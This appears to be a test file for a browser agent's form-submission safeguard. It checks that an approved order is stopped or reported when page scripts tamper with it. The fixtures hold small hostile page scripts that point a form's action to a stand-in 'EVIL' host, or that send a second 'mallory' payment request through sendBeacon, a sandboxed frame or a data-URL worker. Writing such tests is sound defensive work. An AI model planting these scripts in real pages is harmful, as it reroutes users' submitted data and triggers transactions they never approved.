import { describe, expect, it } from 'vitest';
import type { Run } from '../../../lib/model/index.ts';
import type { Tab } from '../../browsers.ts';
import { type Host, html } from '../../servers/hosts.ts';
import { AWAS_PATH, awas, field, site } from './sites.ts';
import { setStage, until } from './stage.ts';

const stage = setStage();

interface Scene {
  readonly shop: Host;
  readonly evil: Host;
  readonly tab: Tab;
}

async function visit(page: string): Promise<Scene> {
  const evil = await stage.host('evil', { handle: () => html('<h1>Thank you</h1>') });
  const shop = await stage.host('shop');
  const answers = site({
    '/': html(page.replaceAll('EVIL', evil.origin)),
    [AWAS_PATH]: awas(shop.origin, [{ id: 'order', path: '/', method: 'POST', parameters: [field('item')] }]),
  });
  shop.handle = (request, response) => answers(request, response) ?? html('<h1>Thank you</h1>');
  const tab = await stage.visit(shop.origin);
  await stage.ready(tab);
  return { shop, evil, tab };
}

const sent = ({ shop, evil }: Scene) =>
  [...shop.log, ...evil.log]
    .filter(({ path }) => !/^\/(?:$|agents?\.|\.well-known|mcp\/server-card|favicon)/.test(path))
    .map(({ host, method, path, body }) =>
      `${method} ${host === shop.name ? '' : 'EVIL'}${path} ${body}`.trim(),
    );

async function agree(scene: Scene, meanwhile?: () => Promise<unknown>): Promise<Run> {
  const order = { tabId: scene.tab.id, action: 'awas:order', arguments: { item: 'hat' }, on: 'page' };
  await stage.panel('run', order);
  const run = await stage.question(scene.tab, 'order');
  expect(sent(scene)).toEqual([]);
  await meanwhile?.();
  await stage.answer(run, true);
  return run;
}

const FIELDS = '<label>Item <input name="item"></label><input type="hidden" name="token" value="1">';
const FORM = `<form id="f" action="/order" method="post" data-awas-action="order">${FIELDS}<button>Order</button></form><iframe name="inner"></iframe>`;
const does = (code: string, page = FORM): string =>
  `${page}<script>const form = document.querySelector('#f'); ${code}</script>`;
const onSubmit = (code: string): string => does(`form.addEventListener('submit', (event) => { ${code} });`);

describe('a page that changes the approved values is stopped before the request', () => {
  it.each<[what: string, page: string]>([
    ['another action in its submit listener', onSubmit("form.action = 'EVIL/x';")],
    [
      'another site, in another window, by form.submit()',
      onSubmit("event.preventDefault(); form.target = '_blank'; form.action = 'EVIL/x'; form.submit();"),
    ],
    [
      'another action in a frame of its own',
      `<iframe srcdoc="${does("form.addEventListener('submit', () => { form.action = 'EVIL/x'; });").replaceAll('"', '&quot;')}"></iframe>`,
    ],
  ])('%s', async (_, page) => {
    const scene = await visit(page);
    const run = await agree(scene);
    const { outcome } = await stage.ended(scene.tab, run);
    const mayBeSent = page.includes('_blank');
    const code = mayBeSent
      ? expect.stringMatching(/^(?:destination-changed|sent-differently)$/)
      : 'destination-changed';
    expect(outcome).toMatchObject({ ok: false, code });
    expect(sent(scene)).toEqual([]);
  });

  it('its action, changed while the person is asked', async () => {
    const scene = await visit(FORM);
    const run = await agree(scene, () =>
      scene.tab.evaluate((to) => {
        const [form] = document.forms;
        if (form) form.action = to;
      }, `${scene.evil.origin}/x`),
    );
    expect((await stage.ended(scene.tab, run)).outcome).toMatchObject({
      ok: false,
      code: 'destination-changed',
    });
    expect(sent(scene)).toEqual([]);
  });
});

const SHOWN = `<form id="f" action="/order" method="post" data-awas-action="order">${FIELDS}
<input type="hidden" name="to" value="alice"><input type="hidden" name="account" value="12345678">
<label>Amount <input name="amount" value="10.50"></label><button>Order</button></form>`;

describe('a value put into a field just before the question', () => {
  it.each(['amount', 'note'])('is in the question, or isn’t sent: %s', async (name) => {
    const note = '<input type="hidden" name="note" value="">';
    const scene = await visit(SHOWN.replace('<button>', `${note}<button>`));
    // A changed property starts no scan, unlike a changed attribute.
    await scene.tab.evaluate((field) => {
      const control = document.forms[0]?.elements.namedItem(field);
      if (control instanceof HTMLInputElement) control.value = 'NEW';
    }, name);
    const run = await agree(scene);
    const { outcome } = await stage.ended(scene.tab, run);
    const isShown = run.plan.sends.some((one) => one.name === name && one.shown === 'NEW');
    const isSent = sent(scene).some((line) => line.includes('NEW'));
    expect([name, isShown || !isSent, outcome?.ok === isSent]).toEqual([name, true, true]);
  });
});

describe('a second message with another value', () => {
  const beside = "navigator.sendBeacon('/beside', new URLSearchParams({ item: 'coat', to: 'mallory' }))";
  it.each<[what: string, page: string]>([
    ['as the page is left', does(`addEventListener('pagehide', () => ${beside});`, SHOWN)],
    [
      'by a frame without an origin',
      does(
        "form.addEventListener('submit', () => { frames[0].postMessage(location.origin + '/beside', '*'); });",
        `${SHOWN}<iframe sandbox="allow-scripts" srcdoc="<script>onmessage = ({ data }) => fetch(data, { method: 'POST', mode: 'no-cors', keepalive: true, body: new URLSearchParams({ item: 'coat', to: 'mallory' }) });</script>"></iframe>`,
      ),
    ],
    [
      'by a worker without an origin',
      does(
        `const worker = new Worker('data:text/javascript,' + encodeURIComponent("onmessage = ({ data }) => fetch(data, { method: 'POST', mode: 'no-cors', keepalive: true, body: new URLSearchParams({ item: 'coat', to: 'mallory' }) });")); form.addEventListener('submit', () => { worker.postMessage(location.origin + '/beside'); for (const end = Date.now() + 150; Date.now() < end; ); });`,
        SHOWN,
      ),
    ],
  ])('is reported: %s', async (_, page) => {
    const scene = await visit(page);
    const run = await agree(scene);
    const { outcome } = await stage.ended(scene.tab, run);
    expect(sent(scene)).toContain('POST /beside item=coat&to=mallory');
    expect(outcome).toMatchObject({ ok: false, code: 'sent-differently' });
  });
});

describe('exactly the approved values are sent', () => {
  it.each<[what: string, page: string]>([
    [
      'by a form that is held up for a moment',
      onSubmit('event.preventDefault(); setTimeout(() => form.submit(), 300);'),
    ],
    ['by a form in a frame', `<iframe srcdoc="${FORM.replaceAll('"', '&quot;')}"></iframe>`],
    [
      'by a form that only its last listener would change',
      onSubmit("addEventListener('submit', () => { form.action = 'EVIL/x'; });"),
    ],
  ])('%s', async (_, page) => {
    const scene = await visit(page);
    await agree(scene);
    await until('the order', () => sent(scene).length > 0);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(sent(scene)).toEqual(['POST /order item=hat&token=1']);
  });

  it('by a script of the page, with a note', async () => {
    const scene = await visit(
      onSubmit(
        "event.preventDefault(); fetch('/api/order', { method: 'POST', body: new URLSearchParams(new FormData(form)) }).then(() => { document.body.append('Ordered'); });",
      ),
    );
    const run = await agree(scene);
    const { outcome } = await stage.ended(scene.tab, run);
    expect(outcome).toMatchObject({ ok: true });
    expect(JSON.stringify(outcome)).toContain('handledByScript');
    expect(sent(scene)).toEqual(['POST /api/order item=hat&token=1']);
  });
});
